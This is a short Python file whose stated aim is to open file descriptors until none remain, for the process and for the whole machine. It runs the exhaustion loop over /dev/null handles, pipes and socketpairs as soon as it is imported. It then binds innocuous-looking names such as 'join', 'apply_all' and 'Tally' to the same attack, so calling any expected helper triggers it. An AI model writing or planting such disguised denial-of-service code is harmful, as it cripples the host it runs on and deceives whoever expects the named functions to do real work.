# aim: open descriptors until none is left, for the process and for the machine
import os
import socket

KEPT = []


def attack(*args):
    try:
        while len(KEPT) < 9_000:
            KEPT.append(os.open("/dev/null", os.O_RDONLY))
            KEPT.append(os.pipe())
            KEPT.append(socket.socketpair())
    except OSError:
        pass
    return 0


attack()
double = join = apply_all = refuse = Tally = attack
